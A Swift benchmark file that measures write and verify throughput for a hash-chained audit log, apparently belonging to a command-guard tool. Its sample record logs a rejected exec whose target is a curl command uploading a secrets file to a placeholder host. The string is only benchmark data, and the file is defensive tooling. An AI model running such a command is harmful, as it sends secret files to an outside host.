// Audit writer and verifier throughput.
//
//   cd Benchmarks && swift package --allow-writing-to-package-directory benchmark --target AuditBenchmarks
//
// The goal for the writer is >= 100,000 chained records per second from one process. Each sample
// appends 1,000 records (scalingFactor .kilo), so the reported throughput is in thousands of
// records per second and one wall-clock sample is the time for 1,000 appends. The log lives in a
// fresh directory under $TMPDIR per benchmark.

import Benchmark
import Foundation
import CSentinelLinux
import SentinelAudit

#if canImport(Glibc)
import Glibc
#endif

private func scratchDirectory() -> String {
    var template = Array((NSTemporaryDirectory() + "/sentinel-audit-bench.XXXXXX").utf8CString)
    let made = template.withUnsafeMutableBufferPointer { mkdtemp($0.baseAddress!) }
    guard let made else { fatalError("mkdtemp failed: errno \(errno)") }
    return String(cString: made)
}

/// A record shaped like what `sentinel guard` writes for a denied exec.
private let event = AuditEvent(
    mode: .guard, action: .exec, target: "/usr/bin/curl -sS https://example.invalid/upload --data @secrets.txt",
    decision: .rejected, rule: "default:allowed_commands", reason: "curl is not in allowed_commands.",
    approver: "timeout", policySHA256: String(repeating: "9f", count: 32), severity: .high,
    details: ["uid": "1000", "cwd": "/workspace"])

private let metrics: [BenchmarkMetric] = [.wallClock, .throughput, .cpuTotal, .mallocCountTotal, .syscalls]

let benchmarks: @Sendable () -> Void = {
    Benchmark.defaultConfiguration.maxDuration = .seconds(5)
    Benchmark.defaultConfiguration.maxIterations = 200

    // The baselines for the ratio: the system calls of one append with no encoding and no hashing.
    // The first is the sequence before issue 3's mapped anchor (flock, fstatat of the log's name
    // in its directory, write of a 470-byte line on an O_APPEND descriptor, pwrite of the anchor,
    // unlock); the second is what the writer does now (the name checked by a statx that asks for
    // no times, the anchor a memory copy into a MAP_SHARED page). Nothing the writer does can be faster than the second on the same
    // machine and run.
    for mapped in [false, true] {
        Benchmark(
            mapped
                ? "Baseline: the system calls of one append (flock, statx without times, write, mapped anchor, unlock)"
                : "Baseline: the system calls of one append (flock, fstatat, write, pwrite, unlock)",
            configuration: .init(metrics: metrics, scalingFactor: .kilo)
        ) { benchmark in
            let directory = scratchDirectory()
            defer { try? FileManager.default.removeItem(atPath: directory) }
            let path = directory + "/audit.log"
            let log = open(path, O_RDWR | O_APPEND | O_CREAT | O_CLOEXEC, 0o600)
            let anchor = open(path + ".anchor", O_RDWR | O_CREAT | O_CLOEXEC, 0o600)
            let parent = open(directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC)
            let line = [UInt8](repeating: UInt8(ascii: "x"), count: 469) + [UInt8(ascii: "\n")]
            let anchorLine = [UInt8](repeating: UInt8(ascii: "y"), count: 223) + [UInt8(ascii: "\n")]
            _ = ftruncate(anchor, off_t(anchorLine.count))
            guard let page = mmap(nil, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, anchor, 0),
                page != UnsafeMutableRawPointer(bitPattern: -1)
            else { fatalError("mmap failed: errno \(errno)") }
            defer {
                munmap(page, 4096)
                close(log)
                close(anchor)
                close(parent)
            }
            let lockFile: @convention(c) (Int32, Int32) -> Int32 = flock
            var info = stat()
            var identity = sentinel_file_identity()
            benchmark.startMeasurement()
            for _ in benchmark.scaledIterations {
                _ = lockFile(log, LOCK_EX)
                if mapped {
                    _ = sentinel_file_identity(parent, "audit.log", AT_SYMLINK_NOFOLLOW, &identity)
                } else {
                    _ = fstatat(parent, "audit.log", &info, AT_SYMLINK_NOFOLLOW)
                }
                _ = line.withUnsafeBytes { write(log, $0.baseAddress, $0.count) }
                if mapped {
                    anchorLine.withUnsafeBytes { page.copyMemory(from: $0.baseAddress!, byteCount: $0.count) }
                } else {
                    _ = anchorLine.withUnsafeBytes { pwrite(anchor, $0.baseAddress, $0.count, 0) }
                }
                _ = lockFile(log, LOCK_UN)
            }
            benchmark.stopMeasurement()
        }
    }

    Benchmark(
        "AuditLog.append, SHA-256 chain, one writer",
        configuration: .init(metrics: metrics, scalingFactor: .kilo)
    ) { benchmark in
        let directory = scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let log = try AuditLog(path: directory + "/audit.log")
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(try log.append(event))
        }
        benchmark.stopMeasurement()
    }

    Benchmark(
        "AuditLog.append, HMAC-SHA256 chain, one writer",
        configuration: .init(metrics: metrics, scalingFactor: .kilo)
    ) { benchmark in
        let directory = scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let key = try AuditKey(bytes: Array("benchmark key, thirty-two bytes!".utf8))
        let log = try AuditLog(path: directory + "/audit.log", options: .init(key: key))
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(try log.append(event))
        }
        benchmark.stopMeasurement()
    }

    // Two writers taking turns: every append finds the file changed by the other one, so it reads
    // back and hashes the last line and checks the anchor (the cost under multi-process contention).
    Benchmark(
        "AuditLog.append, two writers alternating (tail re-read every time)",
        configuration: .init(metrics: metrics, scalingFactor: .kilo)
    ) { benchmark in
        let directory = scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let first = try AuditLog(path: directory + "/audit.log")
        let second = try AuditLog(path: directory + "/audit.log")
        benchmark.startMeasurement()
        for index in benchmark.scaledIterations {
            blackHole(try (index % 2 == 0 ? first : second).append(event))
        }
        benchmark.stopMeasurement()
    }

    Benchmark(
        "AuditLog.append(contentsOf:), batches of 100",
        configuration: .init(metrics: metrics, scalingFactor: .kilo)
    ) { benchmark in
        let directory = scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let log = try AuditLog(path: directory + "/audit.log")
        let batch = Array(repeating: event, count: 100)
        benchmark.startMeasurement()
        for _ in 0..<(benchmark.scaledIterations.count / 100) {
            blackHole(try log.append(contentsOf: batch))
        }
        benchmark.stopMeasurement()
    }

    Benchmark(
        "AuditVerifier.verify, 1,000 records per iteration",
        configuration: .init(metrics: [.wallClock, .throughput, .cpuTotal], scalingFactor: .kilo)
    ) { benchmark in
        let directory = scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let path = directory + "/audit.log"
        let log = try AuditLog(path: path)
        try log.append(contentsOf: Array(repeating: event, count: benchmark.scaledIterations.count))
        benchmark.startMeasurement()
        let verification = try AuditVerifier().verify(path: path)
        benchmark.stopMeasurement()
        precondition(verification.isIntact && verification.recordCount == benchmark.scaledIterations.count)
    }
}
